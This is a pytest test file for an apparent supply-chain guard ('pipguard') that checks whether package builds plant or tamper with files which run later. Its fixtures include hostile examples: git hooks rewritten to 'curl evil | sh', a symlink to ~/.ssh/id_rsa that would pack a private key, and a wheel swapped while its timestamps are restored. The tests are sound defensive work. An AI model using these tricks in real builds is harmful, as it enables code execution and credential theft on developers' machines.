"""The project tree check (pipguard.gate.projecttree.snapshot_tree, srcguard.check_and_restore) on real trees
written by the test, each change made the way a build would make it; the installs themselves
are tests/test_install_project_tree.py."""

from __future__ import annotations

import os
import time

import pytest

from pipguard.gate import projecttree, srcguard


def _tree(root, files):
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def _check(root, change):
    """The problems of one 'hook call' that runs ``change()`` in ``root``, by rule and path."""
    protected, tree = projecttree.snapshot_tree(str(root))
    before = srcguard.snapshot(str(root)) + protected
    change()
    found = srcguard.check_and_restore(str(root), before, tree)
    return {(rule, os.path.relpath(path, root)): severity for severity, rule, _m, path in found}


def test_backend_outputs_are_not_reported_and_named_files_in_egg_info_are(tmp_path):
    root = _tree(tmp_path / "p", {"pkg/__init__.py": "", "setup.py": ""})

    def build():
        _tree(root, {"build/lib/pkg/__init__.py": "", "build/lib/pkg/conftest.py": "",  # numpy ships one
                     "dist/x.tar.gz": "", ".eggs/README.txt": "", ".mesonpy-abc/build.ninja": "",
                     "pkg.egg-info/PKG-INFO": "", "pkg.egg-info/SOURCES.txt": "",
                     "_skbuild/linux/cmake-build/Makefile": "",  # CMake's: run only if you go there
                     "sub/x.egg-info/conftest.py": "", "_skbuild/linux/conftest.py": ""})
    found = _check(root, build)
    assert found == {("project-run-later", "sub/x.egg-info/conftest.py"): "critical",
                     ("project-run-later", "_skbuild/linux/conftest.py"): "critical"}, found
    assert not (root / "sub/x.egg-info/conftest.py").exists()
    assert (root / "build/lib/pkg/conftest.py").exists()


def test_a_regenerated_version_file_is_reported_not_refused(tmp_path):
    """setuptools-scm rewrites its version file at every build: a change to a file of the user's
    is medium (reported), a new ordinary file informational; neither refuses."""
    root = _tree(tmp_path / "p", {"src/pkg/_version.py": "version = '0'\n", "src/pkg/__init__.py": ""})
    found = _check(root, lambda: _tree(root, {"src/pkg/_version.py": "version = '1.0'\n",
                                              "src/pkg/_speedups.c": "/* cython */"}))
    assert found == {("project-file-changed", "src/pkg/_version.py"): "medium",
                     ("project-file-created", "src/pkg/_speedups.c"): "info"}, found
    assert (root / "src/pkg/_version.py").read_text() == "version = '1.0'\n"  # left: not refused


def test_a_run_later_file_rewritten_with_the_same_bytes_is_no_change(tmp_path):
    """poetry-dynamic-versioning rewrites and restores: only a difference of content counts for
    the files kept by their bytes."""
    root = _tree(tmp_path / "p", {"tox.ini": "[tox]\n"})
    assert _check(root, lambda: (root / "tox.ini").write_text("[tox]\n")) == {}


def test_an_environment_inside_the_project_is_protected(tmp_path):
    root = _tree(tmp_path / "p", {".venv/pyvenv.cfg": "home = /usr\n",
                                  ".venv/lib/python3.12/site-packages/six.py": "six\n"})

    def build():
        (root / ".venv/lib/python3.12/site-packages/six.py").write_text("import os\n")
        (root / ".venv/lib/python3.12/site-packages/evil.py").write_text("import os\n")
    found = _check(root, build)
    assert found[("project-env-tamper", ".venv/lib/python3.12/site-packages/six.py")] == "critical"
    assert found[("project-env-tamper", ".venv/lib/python3.12/site-packages/evil.py")] == "critical"
    assert not (root / ".venv/lib/python3.12/site-packages/evil.py").exists()


def test_a_link_to_a_directory_is_refused_and_removed(tmp_path):
    """A build hides conftest.py in build/ (not looked at) and links a collected directory to it."""
    root = _tree(tmp_path / "p", {"tests/test_x.py": ""})

    def build():
        _tree(root, {"build/hidden/conftest.py": "import os\n"})
        os.symlink("build/hidden", root / "tests2")
    found = _check(root, build)
    assert found[("project-run-later", "tests2")] == "critical", found
    assert not os.path.lexists(root / "tests2")


@pytest.mark.parametrize("rel, rule", [("lib/sitecustomize.py", "sitecustomize"),
                                       ("build/__editable__.p-1.0-py3/usercustomize.py", "usercustomize"),
                                       ("src/a.pth", "pth-exec"), ("src/b.pth", "project-startup-file")])
def test_start_up_files_are_judged_by_the_gates_rules(tmp_path, rel, rule):
    root = _tree(tmp_path / "p", {"src/pkg/__init__.py": "", "build/__editable__.p-1.0-py3/pkg": ""})
    text = "import os\n" if rel.endswith("a.pth") else "relative/dir\n"
    found = _check(root, lambda: _tree(root, {rel: text}))
    assert found.get((rule, rel)) == "critical", found
    assert not (root / rel).exists()


def test_snapshot_cost_of_a_5000_file_tree(tmp_path):
    """Measured, not a benchmark: the stat walk of a 5,000-file checkout before and after a call
    stays far under a second (~30-40 ms each way on the development machine)."""
    root = tmp_path / "big"
    for d in range(100):
        (root / "pkg" / f"sub{d}").mkdir(parents=True)
        for f in range(50):
            (root / "pkg" / f"sub{d}" / f"m{f}.py").write_text("x = 1\n")
    start = time.perf_counter()
    protected, tree = projecttree.snapshot_tree(str(root))
    walked = time.perf_counter() - start
    assert len(tree.stamps) == 5000 and tree.complete
    start = time.perf_counter()
    assert srcguard.check_and_restore(str(root), srcguard.snapshot(str(root)) + protected, tree) == []
    checked = time.perf_counter() - start
    print(f"snapshot {walked * 1000:.1f} ms, check {checked * 1000:.1f} ms")
    assert walked < 1.0 and checked < 1.0


# ------------------------------------------------------------- attacked (attack2, issue 33/29)

@pytest.mark.parametrize("rel", [
    "vendor/lib/.git",              # a gitdir: file: the subdirectory becomes a repository
    ".husky/pre-commit", ".githooks/pre-push",   # hooks that core.hooksPath names
    ".pylintrc", "pylintrc", "mypy.ini", ".mypy.ini",
    "ipython_config.py", "jupyter_server_config.py", "jupyter_notebook_config.py", "jupyter_lab_config.py",
    ".circleci/config.yml", ".travis.yml", "azure-pipelines.yml", "bitbucket-pipelines.yml", "Jenkinsfile",
    ".readthedocs.yaml",
])
def test_more_files_that_run_later_are_refused_and_undone(tmp_path, rel):
    """Before: each was an informational "created" line, the install went through."""
    root = _tree(tmp_path / "p", {"src/pkg/__init__.py": "", "vendor/lib/x.py": ""})
    text = "gitdir: ../../build/g\n" if rel.endswith(".git") else "[MAIN]\ninit-hook='import os'\n"
    found = _check(root, lambda: _tree(root, {rel: text}))
    assert found.get(("project-run-later", rel)) == "critical", found
    assert not (root / rel).exists()


def test_a_hook_kept_in_the_project_rewritten_is_put_back(tmp_path):
    root = _tree(tmp_path / "p", {".husky/pre-commit": "npx lint-staged\n"})
    found = _check(root, lambda: (root / ".husky/pre-commit").write_text("curl evil | sh\n"))
    assert found == {("project-run-later", ".husky/pre-commit"): "critical"}, found
    assert (root / ".husky/pre-commit").read_text() == "npx lint-staged\n"


PLUGIN = "[pytest11]\nzzplug = zzplug\n"


@pytest.mark.parametrize("where", ["src/zzplug-1.0.dist-info", "zzplug.egg-info", "src/zzplug.egg-info"])
def test_another_distributions_metadata_is_refused_and_removed(tmp_path, where):
    """importlib.metadata finds a metadata directory on any import path (an editable's src/ or
    root, the current directory of ``python -m pytest``): its pytest11 entry point is loaded at
    every pytest run. Before: src/*.dist-info was an informational "created", a top-level or
    src/ *.egg-info not even that (only run-later names were looked for inside)."""
    root = _tree(tmp_path / "p", {"pyproject.toml": "[project]\nname = 'Honest_Pkg'\nversion = '1'\n",
                                  "src/honest_pkg/__init__.py": ""})
    found = _check(root, lambda: _tree(root, {f"{where}/entry_points.txt": PLUGIN, f"{where}/METADATA": "",
                                              "src/zzplug.py": "import os\n"}))
    assert found.get(("project-run-later", f"{where}/entry_points.txt")) == "critical", found
    assert found.get(("project-run-later", where)) == "critical", found
    assert not (root / where).exists()


def test_the_projects_own_egg_info_is_not_reported(tmp_path):
    """setuptools writes the project's own .egg-info (its entry points among them) at each build."""
    root = _tree(tmp_path / "p", {"pyproject.toml": "[project]\nname = 'Honest_Pkg'\nversion = '1'\n",
                                  "src/honest_pkg/__init__.py": "",
                                  "src/vendored/six-1.16.0.dist-info/METADATA": "Name: six\n"})
    found = _check(root, lambda: _tree(root, {"src/Honest_Pkg.egg-info/entry_points.txt": PLUGIN,
                                              "src/Honest_Pkg.egg-info/PKG-INFO": "Name: Honest_Pkg\n"}))
    assert found == {}, found


def test_entry_points_added_to_a_stale_egg_info_of_another_name_are_refused(tmp_path):
    """The user's checkout keeps the egg-info of the project's old name: looked into, bytes kept."""
    root = _tree(tmp_path / "p", {"pyproject.toml": "[project]\nname = 'newname'\n",
                                  "src/oldname.egg-info/PKG-INFO": "Name: oldname\n"})
    found = _check(root, lambda: _tree(root, {"src/oldname.egg-info/entry_points.txt": PLUGIN}))
    assert found == {("project-run-later", "src/oldname.egg-info/entry_points.txt"): "critical"}, found
    assert not (root / "src/oldname.egg-info/entry_points.txt").exists()


def test_a_tree_past_the_stat_limit_still_has_its_protected_names_checked(tmp_path, monkeypatch):
    """A big node_modules or venv in the project (past MAX_TREE entries, made small here) stopped
    the walk: a conftest.py planted in a directory walked after it was only "not checked"."""
    monkeypatch.setattr(projecttree, "MAX_TREE", 60)
    files = {f"node_modules/m{d}/f{f}.js": "" for d in range(8) for f in range(10)}
    root = _tree(tmp_path / "p", {**files, "tests/test_a.py": "", "zz/a.py": ""})

    def build():
        _tree(root, {"tests/conftest.py": "import os\n", "zz/conftest.py": "import os\n",
                     "node_modules/m3/conftest.py": "import os\n"})
    found = _check(root, build)
    for rel in ("tests/conftest.py", "zz/conftest.py", "node_modules/m3/conftest.py"):
        assert found.get(("project-run-later", rel)) == "critical", found
        assert not (root / rel).exists()
    assert found.get(("project-tree-unchecked", ".")) == "medium", found


def test_a_release_file_the_user_built_changed_keeping_its_timestamps_refuses(tmp_path):
    """``python -m build``, ``pip install -e .``, ``twine upload dist/*``: a build that rewrites
    the wheel in dist/ (same size, mtime put back) had it published; dist/ was not looked at.
    The stat's ctime and inode still move; a new file there stays unreported (old setuptools
    commands write there)."""
    root = _tree(tmp_path / "p", {"src/pkg/__init__.py": "", "dist/pkg-1.0-py3-none-any.whl": "honest-wheel",
                                  "dist/pkg-1.0.tar.gz": "honest-sdist"})

    def build():
        wheel = root / "dist/pkg-1.0-py3-none-any.whl"
        st = os.stat(wheel)
        wheel.write_text("evil--wheel")
        os.utime(wheel, ns=(st.st_atime_ns, st.st_mtime_ns))
        (root / "dist/pkg-1.0.tar.gz").unlink()
        _tree(root, {"dist/pkg-1.0-py2.py3-none-any.whl": "new"})
    found = _check(root, build)
    assert found == {("project-release-changed", "dist/pkg-1.0-py3-none-any.whl"): "high",
                     ("project-release-changed", "dist/pkg-1.0.tar.gz"): "high"}, found


def test_a_hooks_directory_nested_past_the_recursion_limit_is_refused_and_removed(tmp_path):
    """1,100 directories deep in .git/hooks: the walk recursed, raised RecursionError, and the
    check (and the repair) never happened."""
    root = _tree(tmp_path / "p", {".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/pre-commit.sample": ""})

    def build():
        fd = os.open(root / ".git/hooks", os.O_RDONLY)
        for _ in range(1100):  # by descriptor: os.makedirs and pathlib recurse too
            os.mkdir("a", dir_fd=fd)
            fd, old = os.open("a", os.O_RDONLY, dir_fd=fd), fd
            os.close(old)
        os.close(os.open("post-checkout", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
        os.close(fd)
    found = _check(root, build)
    assert found.get(("vcs-tamper", ".git/hooks/a")) == "critical", list(found)[:5]
    assert not (root / ".git/hooks/a").exists()


@pytest.mark.parametrize("target", ["{home}/.ssh/id_rsa", "../../../outside.txt"])
def test_a_link_out_of_the_project_is_refused_and_removed(tmp_path, target):
    """src/pkg/data.txt -> ~/.ssh/id_rsa: the next unsandboxed ``python -m build`` packs the key as
    package data. Before: an informational "created"."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh/id_rsa").write_text("PIPGUARD-FAKE-SECRET\n")
    (tmp_path / "outside.txt").write_text("x\n")
    root = _tree(tmp_path / "p", {"src/pkg/__init__.py": ""})
    found = _check(root, lambda: os.symlink(target.format(home=home), root / "src/pkg/data.txt"))
    assert found.get(("project-run-later", "src/pkg/data.txt")) == "critical", found
    assert not os.path.lexists(root / "src/pkg/data.txt")
    assert (home / ".ssh/id_rsa").exists()


def test_a_link_inside_the_project_is_only_reported(tmp_path):
    root = _tree(tmp_path / "p", {"src/pkg/__init__.py": "", "README.md": ""})
    found = _check(root, lambda: os.symlink("../../README.md", root / "src/pkg/README.md"))
    assert found == {("project-file-created", "src/pkg/README.md"): "info"}, found


def test_ci_files_count_at_the_root_only(tmp_path):
    """CI reads its files from the repository's root: the same names in a package a build
    unpacks (a frontend's node_modules: npm packages ship .travis.yml) run nowhere."""
    root = _tree(tmp_path / "p", {"src/pkg/__init__.py": ""})
    found = _check(root, lambda: _tree(root, {"node_modules/left-pad/.travis.yml": "", "node_modules/x/Jenkinsfile": "",
                                              "node_modules/x/.circleci/config.yml": ""}))
    assert set(found.values()) == {"info"}, found


def test_the_hooks_directory_the_repository_names_is_protected(tmp_path):
    """``git config core.hooksPath tools/git-hooks``: a build rewriting the pre-commit hook there
    was a medium "changed" (an ordinary file), and the hook ran at the next commit."""
    root = _tree(tmp_path / "p", {".git/config": '[core]\n\tbare = false\n\thooksPath = "tools/git-hooks"\n',
                                  ".git/HEAD": "ref: refs/heads/main\n", "tools/git-hooks/pre-commit": "ruff check\n",
                                  "tools/other.sh": "echo\n"})

    def build():
        _tree(root, {"tools/git-hooks/pre-commit": "curl evil | sh\n", "tools/git-hooks/post-checkout": "x\n"})
    found = _check(root, build)
    assert found == {("project-run-later", "tools/git-hooks/pre-commit"): "critical",
                     ("project-run-later", "tools/git-hooks/post-checkout"): "critical"}, found
    assert (root / "tools/git-hooks/pre-commit").read_text() == "ruff check\n"
    assert not (root / "tools/git-hooks/post-checkout").exists()
